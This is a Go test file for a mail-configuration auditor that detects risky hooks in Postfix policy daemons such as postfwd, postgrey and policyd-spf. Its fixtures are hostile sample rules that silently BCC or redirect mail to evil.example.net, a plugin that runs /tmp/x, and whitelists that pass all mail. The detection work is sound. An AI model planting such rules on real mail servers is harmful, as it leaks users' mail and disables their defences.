package policy

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"waxseal"
	"waxseal/internal/mask"
	"waxseal/internal/mta"
	"waxseal/internal/snapshot"
)

func read(files map[string]string, starts ...mta.Start) mta.Result {
	return Read(snapshot.Files(files), mask.New([]byte("k")), mta.Options{Package: mta.NoPackages, Domains: []string{"example.test"}, Starts: starts})
}

// told writes hooks on one line each.
func told(r mta.Result) string {
	var b strings.Builder
	for _, h := range r.Hooks {
		extra := ""
		if h.Target.Remote {
			extra += " remote"
		}
		if h.Modifiers["lets_pass"] != "" {
			extra += " passes " + h.Modifiers["lets_pass"]
		}
		if why := h.Modifiers["inactive"]; why != "" {
			extra += " (" + why + ")"
		}
		fmt.Fprintf(&b, "%s %s:%d %s%s | %s\n", h.Kind, h.Directive, h.Source.Line, h.Target.Value, extra, h.Scope)
	}
	return b.String()
}

const postfwdRules = "/etc/postfix/postfwd.cf"

func TestHooks(t *testing.T) {
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  string
	}{
		{"nothing", map[string]string{"/etc/passwd": ""}, ""},
		{"postfwd redirects", map[string]string{postfwdRules: "id=R1; sender=boss@example.test; action=REDIRECT drop@evil.example.net\nid=R2; action=reject no\n"},
			"redirect REDIRECT:1 drop@evil.example.net remote | mail with sender=boss@example.test\n"},
		{"postfwd copies all", map[string]string{postfwdRules: "# a rule\nid=R1\n  action=BCC drop@evil.example.net # all of it\n"},
			"copy BCC:2 drop@evil.example.net remote | all mail that it is asked about\n"},
		{"postfwd redirects by a macro", map[string]string{postfwdRules: "&&BOSS { sender=boss@example.test; };\n&&BOSS ; action=redirect drop@evil.example.net\n"},
			"redirect REDIRECT:2 drop@evil.example.net remote | mail with sender=boss@example.test\n"},
		{"postfwd discards beyond a rate", map[string]string{postfwdRules: "id=R1; sasl_username=~/./; action=rate(sasl_username/100/3600/DISCARD too many)\n"},
			"discard DISCARD:1 DISCARD too many | mail with sasl_username=~., beyond 100 in 3600 seconds\n"},
		{"postfwd limits", map[string]string{postfwdRules: "id=R1; action=rate(client_address/5/60/450 4.7.1 too many)\n"}, ""},
		{"postfwd asks another", map[string]string{postfwdRules: "id=R1; action=ask(203.0.113.9:10031:dunno)\n"},
			"policy ask:1 inet:203.0.113.9:10031 remote | all mail that it is asked about\n"},
		{"postfwd writes", map[string]string{postfwdRules: "id=R1; rate==5; action=mail(203.0.113.9/h/a@b.example/drop@evil.example.net/s/b)\nid=R2; sender=a; action=sendmail(/usr/sbin/sendmail::a@example.test::root@example.test::s::b)\nid=R3; sender=a; action=sendmail(/tmp/x::a::b::s::b)\n"},
			"copy mail:1 drop@evil.example.net remote | mail with rate==5\ncopy sendmail:2 root@example.test | mail with sender=a\npipe sendmail:3 /tmp/x -i -f a b | mail with sender=a\n"},
		{"postfwd answers all before the rules", map[string]string{postfwdRules: "id=A; action=dunno\nid=B; sender=x; action=REDIRECT a@evil.example.net\n"},
			"rewrite action:1 dunno passes all | all mail that it is asked about\nredirect REDIRECT:2 a@evil.example.net remote (a rule above it answers whatever is asked) | mail with sender=x\n"},
		{"postfwd answers all behind the rules", map[string]string{postfwdRules: "id=B; sender=x; action=REJECT\nid=A; action=dunno\n"}, ""},
		{"postfwd takes all from anywhere", map[string]string{postfwdRules: "id=A; client_address=10.0.0.0/8,0.0.0.0/0; action=OK\n"},
			"rewrite action:1 OK passes all | all mail that it is asked about\n"},
		{"postfwd takes mail of the own network", map[string]string{postfwdRules: "id=A; client_address=10.0.0.0/8; action=OK\n"}, ""},
		{"postfwd jumps over what answers all", map[string]string{postfwdRules: "id=A; sender=a; action=jump(C)\nid=B; action=reject\nid=C; sender=a; action=HOLD\n"},
			"discard HOLD:3 HOLD | mail with sender=a\n"},
		{"postfwd from a list", map[string]string{postfwdRules: "id=A; sender=file:/etc/postfix/vip; action=FILTER smtp:[203.0.113.9]:2525\n", "/etc/postfix/vip": "a@example.test # x\n\nb@example.test\n"},
			"content_filter FILTER:1 [203.0.113.9]:2525 remote | mail with sender=a@example.test, …\n"},
		{"postfwd with options", map[string]string{"/etc/default/postfwd": "STARTUP=1\nCONF=/etc/postfwd/rules\nINET=127.0.0.1\nPORT=10040\nRUNAS=\"postfw\"\nARGS=\"--plugins /etc/postfwd/x.pl --scores 4.0='REDIRECT a@evil.example.net' -r 'id=Z; action=BCC b@evil.example.net'\"\n",
			"/etc/postfwd/rules": "id=R; sender=x; action=PREPEND X-A: b\n"},
			"script plugins:1 /etc/postfwd/x.pl | all mail that it is asked about\n" +
				"redirect REDIRECT:6 a@evil.example.net remote | mail with 4.0 points or more\n" +
				"copy BCC:6 b@evil.example.net remote | all mail that it is asked about\n" +
				"rewrite PREPEND:1 X-A: b (a rule above it answers whatever is asked) | mail with sender=x\n"},
		{"postfwd with a plugin", map[string]string{"/etc/default/postfwd": "ARGS=\"--plugins=/etc/postfwd/x.pl\"\n",
			"/etc/postfwd/x.pl": "# system('no')\n%postfwd_actions_plugin = (\n'x' => sub { system('/tmp/x'); return 'redirect a@evil.example.net'; });\n"},
			"script plugins:1 /etc/postfwd/x.pl | all mail that it is asked about\nexpansion_exec plugins:3 /tmp/x | all mail that it is asked about\n" +
				"redirect plugins:3 a@evil.example.net remote | all mail that it is asked about\n"},
		{"policyd-spf lets a network by", map[string]string{string(spfConfig): "Whitelist = 10.0.0.0/8, 0.0.0.0/0\n"}, "map Whitelist:1 0.0.0.0/0, 10.0.0.0/8 | all mail that it is asked about\nrewrite Whitelist:1 0.0.0.0/0 passes all | all mail that it is asked about\n"},
		{"policyd-spf only tests", map[string]string{string(spfConfig): "TestOnly = 0\n"}, "rewrite TestOnly:1 0 passes all | all mail that it is asked about\n"},
		{"policyd-spf refuses nothing", map[string]string{string(spfConfig): "HELO_reject = False\nMail_From_reject = No_Check\n"}, "rewrite Mail_From_reject:2 No_Check passes all | all mail that it is asked about\n"},
		{"policyd-spf checks one of two", map[string]string{string(spfConfig): "HELO_reject = False\nWhitelist = 10.0.0.0/8\nDomain_Whitelist = partner.example\nTestOnly = 1\nNoSuch = 1\n"}, "map Whitelist:2 10.0.0.0/8 | all mail that it is asked about\nmap Domain_Whitelist:3 partner.example | all mail that it is asked about\n"},
		{"policyd-spf answers as it is told", map[string]string{string(spfConfig): "Mail_From_pass_restriction = REDIRECT a@evil.example.net\n"},
			"redirect Mail_From_pass_restriction:1 a@evil.example.net remote | mail that SPF has nothing against\n"},
		{"policyd-spf of another file", map[string]string{"/etc/postfix/master.cf": "spf unix - n n - 0 spawn user=nobody argv=/usr/bin/policyd-spf\n  /etc/spf.conf\n", "/etc/spf.conf": "skip_addresses = ::/0\n"},
			"map skip_addresses:1 ::/0 | all mail that it is asked about\nrewrite skip_addresses:1 ::/0 passes all | all mail that it is asked about\n"},
		{"postgrey lets all by", map[string]string{"/etc/postgrey/whitelist_clients.local": "# ours\nmx.example.test\n/.*/\n10.0.0.0/8\n", "/etc/postgrey/whitelist_clients": "com\n0.0.0.0/0\n/^mail\\d+\\.x$/\ndebian.org\n"},
			"rewrite whitelist:1 com passes all | all mail that it is asked about\nrewrite whitelist:2 0.0.0.0/0 passes all | all mail that it is asked about\nmap whitelist:0 /^mail\\d+\\.x$/, 0.0.0.0/0, com, debian.org | all mail that it is asked about\nrewrite whitelist:3 /.*/ passes all | all mail that it is asked about\nmap whitelist:0 /.*/, 10.0.0.0/8, mx.example.test | all mail that it is asked about\n"},
		{"postgrey answers as it is told", map[string]string{"/etc/default/postgrey": "POSTGREY_OPTS=\"--inet=10023 --greylist-action='REDIRECT a@evil.example.net'\"\n"}, "redirect greylist-action:1 a@evil.example.net remote | mail that is greylisted\n"},
		{"postgrey puts nobody off", map[string]string{"/etc/default/postgrey": "POSTGREY_OPTS=\"--inet=10023\"\nPOSTGREY_OPTS=\"$POSTGREY_OPTS --greylist-action=DUNNO --x-greylist-header='Reply-To: a@evil.example.net'\"\n"},
			"rewrite greylist-action:2 DUNNO passes all | all mail that it is asked about\nrewrite x-greylist-header:2 Reply-To: a@evil.example.net | all mail that waited\n"},
		{"greylistd", map[string]string{"/etc/greylistd/config": "[timeouts]\nretryMin = 0\n[socket]\npath = /run/g\n", "/etc/greylistd/whitelist-hosts": "10.0.0.1\n*\n"},
			"rewrite retryMin:2 0 passes all | all mail that it is asked about\nrewrite whitelist-hosts:2 * passes all | all mail that it is asked about\nmap whitelist-hosts:0 *, 10.0.0.1 | all mail that it is asked about\n"},
		{"policyd-rate-limit", map[string]string{"/etc/policyd-rate-limit.yaml": "report: True\nreport_to:\n    - root@example.test\n    - \"a@evil.example.net\" # x\nfail_action: \"discard\"\nlimits:\n  - [10, 60]\nbackend: 1\nmysql_config:\n  host: db.evil.example.net\n  passwd: geheim\n"},
			"discard fail_action:5 DISCARD | mail beyond the limits\ncopy report_to:2 root@example.test | reports on limits\ncopy report_to:2 a@evil.example.net remote | reports on limits\nmap mysql_config:10 mysql:db.evil.example.net remote | all mail that it is asked about\n"},
		{"policyd-rate-limit limits nobody", map[string]string{"/etc/policyd-rate-limit.yaml": "limit_by_sasl: False\n"}, "rewrite limit_by_sasl:1 False passes all | all mail that it is asked about\n"},
		{"policyd-rate-limit in Python", map[string]string{"/etc/policyd-rate-limit.conf": "import os\nSOCKET = ('127.0.0.1', 8552)\n", "/etc/policyd-rate-limit.yaml": "limit_by_sasl: False\n"},
			"script configuration:1 /etc/policyd-rate-limit.conf | all mail that it is asked about\n"},
		{"policyd-weight", map[string]string{"/etc/policyd-weight.conf": "$BIND_ADDRESS = '127.0.0.1';\n$REJECTMSG = 'DUNNO';\n"},
			"script configuration:1 /etc/policyd-weight.conf | all mail that it is asked about\nrewrite REJECTMSG:2 DUNNO passes all | all mail that it is asked about\n"},
		{"policyd 2", map[string]string{"/etc/cluebringer/cluebringer.conf": "[server]\nmodules=<<EOT\nCore\nAccessControl\nEOT\n[database]\nDSN=DBI:mysql:database=p;host=203.0.113.9\nPassword=geheim\n"},
			"map DSN:7 DBI:mysql:database=p;host=203.0.113.9 remote | all mail that it is asked about\n"},
		{"PostSRSd", map[string]string{"/etc/default/postsrsd": "SRS_DOMAIN=mail.example.test\nSRS_SECRET=/etc/postsrsd.secret\n", "/etc/postsrsd.secret": "f3mY9+aZk1Qw8rTt5LqVbN7xCzE2sH0p\n"}, ""},
		{"PostSRSd of another domain", map[string]string{"/etc/default/postsrsd": "SRS_DOMAIN=evil.example.net\nSRS_SECRET=/etc/postsrsd.secret\n", "/etc/postsrsd.secret": "12345\n"},
			"rewrite SRS_DOMAIN:1 @evil.example.net remote | all mail that it is asked about\nrewrite SRS_SECRET:2 /etc/postsrsd.secret | all mail that it is asked about\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := read(tc.files)
			if got := told(r); got != tc.want {
				t.Errorf("got\n%swant\n%s", got, tc.want)
			}
			if strings.Contains(fmt.Sprintf("%+v", r), "geheim") {
				t.Error("a password is told")
			}
			allNoted(t, r, tc.files)
		})
	}
}

// allNoted: every file of a configuration is a part, and one with a password is no
// text.
func allNoted(t *testing.T, r mta.Result, files map[string]string) {
	t.Helper()
	roles := map[string]waxseal.Role{}
	for _, p := range r.Parts {
		roles[string(p.Path)] = p.Role
	}
	for _, h := range r.Hooks {
		for _, p := range h.Closure {
			roles[string(p.Path)] = p.Role
		}
	}
	for p, text := range files {
		role, ok := roles[p]
		if !ok && p != "/etc/passwd" && p != "/etc/postfix/master.cf" {
			t.Errorf("%s is not listed", p)
		}
		if strings.Contains(mask.New(nil).Text(role, text), "geheim") && role.Text() {
			t.Errorf("%s holds a password and is kept as %s", p, role)
		}
	}
}

func TestServices(t *testing.T) {
	unit := func(argv ...string) mta.Start {
		return mta.Start{Argv: argv, Why: "x.service", Source: waxseal.Source{Path: "/etc/systemd/system/x.service", Line: 3}, Active: true}
	}
	for _, tc := range []struct {
		name  string
		files map[string]string
		start []mta.Start
		want  string
	}{
		{"postfwd", map[string]string{"/etc/default/postfwd": "CONF=/etc/postfix/postfwd.cf\nINET=127.0.0.1\nPORT=10040\nRUNAS=postfw\n"}, nil, "postfwd [inet:127.0.0.1:10040] [] postfw"},
		{"postfwd by a unit", map[string]string{"/etc/f": "id=a; action=dunno\n"}, []mta.Start{unit("/usr/sbin/postfwd2", "-f", "/etc/f", "-i127.0.0.1", "--port=10045", "-u", "pf"), unit("postfwd", "--kill", "-p", "1")}, "postfwd [inet:127.0.0.1:10045] [] pf"},
		{"postfwd on a socket", map[string]string{"/etc/default/postfwd": "ARGS=\"--proto unix --port=/run/postfwd.sock\"\n"}, nil, "postfwd [unix:/run/postfwd.sock] [] nobody"},
		{"policyd-spf", map[string]string{string(spfConfig): ""}, nil, "policyd-spf [] [policyd-spf] "},
		{"postgrey", map[string]string{"/etc/default/postgrey": "POSTGREY_OPTS=\"--inet=10023\"\n"}, []mta.Start{unit("/usr/sbin/postgrey", "$POSTGREY_OPTS", "--unix=/run/g")}, "postgrey [inet:localhost:10023] [] postgrey"},
		{"postgrey on a socket", map[string]string{"/etc/default/postgrey": "POSTGREY_OPTS=\"--unix=/var/spool/postfix/postgrey/socket --user=pg\"\n"}, nil, "postgrey [unix:/var/spool/postfix/postgrey/socket] [] pg"},
		{"greylistd", map[string]string{"/etc/greylistd/config": ""}, nil, "greylistd [unix:/var/run/greylistd/socket] [] greylist"},
		{"policyd-rate-limit", map[string]string{"/etc/policyd-rate-limit.yaml": "SOCKET: ['127.0.0.1', 8552]\n"}, nil, "policyd-rate-limit [inet:127.0.0.1:8552] [] policyd-rate-limit"},
		{"PostSRSd", map[string]string{"/etc/default/postsrsd": "SRS_FORWARD_PORT=1\n"}, nil, "postsrsd [inet:127.0.0.1:1 inet:127.0.0.1:10002] [] postsrsd"},
		{"policyd 2", map[string]string{"/etc/cluebringer.conf": "[server]\nport=10031\nhost=127.0.0.1\n"}, nil, "cluebringer [inet:127.0.0.1:10031] [] root"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := read(tc.files, tc.start...)
			var got []string
			for _, s := range r.Services {
				got = append(got, fmt.Sprintf("%s %v %v %s", s.Stack, s.Sockets, s.Programs, s.User))
			}
			if !slices.Equal(got, []string{tc.want}) {
				t.Errorf("got %q want %q", got, tc.want)
			}
		})
	}
}

func TestDefaultsSpelledOut(t *testing.T) {
	for _, tc := range []struct{ name, path, without, with string }{
		{"policyd-spf", string(spfConfig), "debugLevel = 1\n", "# c\ndebugLevel=1\nHELO_reject = Fail\nTestOnly = 1\n"},
		{"greylistd", "/etc/greylistd/config", "[data]\n", "[data]\nupdate = 300\n[socket]\npath=/var/run/greylistd/socket\n"},
		{"policyd-rate-limit", "/etc/policyd-rate-limit.yaml", "debug: True\n", "fail_action: \"defer_if_permit Rate limit reach, retry later\"\ndebug: True\nlimits:\n    - [10, 60] # a\n    - [150, 86400]\n"},
		{"postgrey", "/etc/default/postgrey", "POSTGREY_OPTS='--inet=10023'\n", "POSTGREY_OPTS='--inet=10023 --delay=300'\n"},
		{"postgrey's list in another order", "/etc/postgrey/whitelist_clients", "a.example\nb.example\n", "# c\nb.example\na.example\n"},
		{"postfwd", postfwdRules, "id=R; sender=a; action=reject x\n", "# c\nid=R\n   sender=a # d\n\n   action=reject x\n"},
		{"PostSRSd", "/etc/default/postsrsd", "SRS_DOMAIN=example.test\n", "SRS_DOMAIN=\"example.test\"\nSRS_HASHLENGTH=4\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			settings := func(text string) string {
				var list []string
				for _, s := range read(map[string]string{tc.path: text}).Settings {
					list = append(list, s.Name+" = "+s.Value)
				}
				slices.Sort(list)
				return strings.Join(list, "\n")
			}
			if a, b := settings(tc.without), settings(tc.with); a != b {
				t.Errorf("settings differ:\n%s\n\n%s", a, b)
			}
		})
	}
}

func FuzzRead(f *testing.F) {
	f.Add("id=A; client_address=10.0.0.0/8; action=BCC a@b\n&&M { sender=x; };\n&&M; action=rate(a/1/2/REDIRECT x@y)\n", "--inet=10023 --greylist-action=DISCARD", "report_to:\n  - \"a@b\"\nSOCKET: [a, 1]\n", "[data]\nstatefile = x\n<<EOT\n")
	f.Add("&&A { &&A };\nid=x; &&A\n", "-f x $A ${B", "a: &x", "A=\"$A$A\"")
	f.Fuzz(func(t *testing.T, rules, options, yaml, plain string) {
		r := read(map[string]string{postfwdRules: rules, "/etc/default/postgrey": "POSTGREY_OPTS=\"" + options + "\"", "/etc/default/postfwd": plain + "\nARGS='" + options + "'", "/etc/policyd-rate-limit.yaml": yaml,
			string(spfConfig): plain, "/etc/greylistd/config": plain, "/etc/cluebringer.conf": plain, "/etc/policyd-weight.conf": plain, "/etc/default/postsrsd": plain, "/etc/postgrey/whitelist_clients": plain})
		for _, h := range r.Hooks {
			if h.ID == "" || h.Explain == "" || h.Source.Path == "" || h.Kind == "" {
				t.Errorf("a hook with nothing to say: %+v", h)
			}
		}
	})
}
